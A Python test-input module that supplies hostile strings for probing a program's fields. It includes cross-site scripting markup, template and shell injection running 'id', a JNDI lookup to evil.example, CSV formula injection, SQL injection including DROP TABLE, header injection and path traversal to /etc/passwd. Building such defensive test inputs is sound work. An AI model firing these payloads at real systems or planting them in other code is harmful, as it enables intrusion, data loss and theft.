"""Words that have broken programs elsewhere, of our own making: a few of each kind, and more by a seed.

A value that does harm leaves a trace that can be looked for: MARK where markup or a script came through as such, and
PRODUCT where something was computed.
"""

import os
import random

MARK = "zzmark"
PRODUCT = "9801547"
"""1337 times 7331."""

_SUM = "1337*7331"

MARKUP = (
    f"<script>{MARK}()</script>",
    f'"><img src=x onerror={MARK}()>',
    f"' autofocus onfocus='{MARK}()' x='",
    f"</textarea><svg onload={MARK}()>",
    f"</title><iframe srcdoc='<script>{MARK}()</script>'>",
    f"javascript:{MARK}()",
    f"[click](javascript:{MARK}()) <https://evil.example/{MARK}> ![x](x onerror={MARK})",
    f"<!--><math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={MARK}()>'>",
    f"&lt;script&gt;{MARK}()&lt;/script&gt;&#x3c;script&#x3e;",
    f"<a href='data:text/html,<script>{MARK}()</script>'>x</a>",
    "]]><x>&amp;&unknown;&#0;&#xD800;",
)
COMPUTED = (
    f"{{{{{_SUM}}}}}",
    f"${{{_SUM}}}",
    f"{{% print({_SUM}) %}}#{{{_SUM}}}<%= {_SUM} %>",
    "{{ config }}{{ self.__init__.__globals__ }}{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{0.__class__.__init__.__globals__}%s%(x)s%n{}",
    f"= {_SUM}",
    f"=cmd|'/C calc'!A0+{_SUM}",
    "__import__('os').system('id')",
    "${jndi:ldap://evil.example/a}",
    "$(id)`id`;id|id&&id\nid",
)
ASKED = (
    "' OR '1'='1' --",
    '"; DROP TABLE person; --',
    "1) UNION SELECT sql FROM sqlite_master--",
    "%' AND 1=CAST((SELECT version()) AS int) AND '%'='",
    "\\'; SELECT pg_sleep(10); --",
    "%_%_%\\%",
)
LETTERS = (
    "\0",
    "a\0b",
    "\ufeff\u200b\u2060\u00ad",
    "\u202eexe.fdp\u202c\u2066x\u2069",
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b" * 40,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 30,
    "\u0130\u0131\u212a\u00df\ufb03\u1e9e\u017f",
    "\ud7ff\ue000\uffff\U0010ffff",
    "\u2028\u2029\u0085\x0b\x0c\x1b[31m\x07\x08\x7f",
    "caf\u00e9 cafe\u0301",
)
LINES = (
    f"x\r\nSet-Cookie: {MARK}=1\r\n\r\n<html>",
    f"x%0d%0aLocation:%20https://evil.example/{MARK}",
    "x\nBcc: evil@x.example",
    "\t\t\r\r\n\n   ",
)
PLACES = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f",
    "//evil.example/x",
    "https://evil.example@127.0.0.1/",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "CON.pdf",
)
NUMBERS = (
    "0", "-0", "-1", "1e309", "NaN", "-Infinity", "0x10", "1_000", "١٢٣", "½", "9" * 400, "1,5", "1.0000000000000001",
    "2147483648", "9223372036854775808", "1e-400", "٣.١٤",
)  # fmt: skip
DATES = (
    "0000-00-00", "2027-02-30", "9999-12-31T23:59:60Z", "10000-01-01", "-0001-01-01", "1", "31", "0", "99999999999",
    "2027-03-28T01:30:00", "29/2/2027", "today", "٢٠٢٧-٠١-٠١", "2027-W01-1", "1970-01-01T00:00:00+99:99",
)  # fmt: skip
SHAPES = ("", " ", "null", "true", "[]", "{}", '{"$ne": null}', "[object Object]", "undefined", "on", "a" * 100_000)

EVERY = (*MARKUP, *COMPUTED, *ASKED, *LETTERS, *LINES, *PLACES, *NUMBERS, *DATES, *SHAPES)


def turns(usual: int) -> range:
    """How often each field is tried, each time with other words: ATTACKS says how often, or `all` for every word."""
    asked = os.environ.get("ATTACKS", str(usual))
    return range(len(EVERY) if asked == "all" else int(asked))


def made(seed: int, count: int) -> tuple[str, ...]:
    """Words put together from pieces of the others, always the same for a seed."""
    chance = random.Random(seed)
    pieces = [piece for one in EVERY if len(one) < 200 for piece in one.replace(" ", "\n").split("\n") if piece]
    signs = "'\"<>&;%{}$()[]\\\r\n\t\0 \u202e\ufeff="
    return tuple(
        "".join(chance.choice(pieces if chance.random() < 0.7 else signs) for _ in range(chance.randint(1, 6)))
        for _ in range(count)
    )


def for_field(number: int) -> str:
    """One of them for the field of a number, so that neighbours get words of different kinds."""
    return EVERY[number * 37 % len(EVERY)]
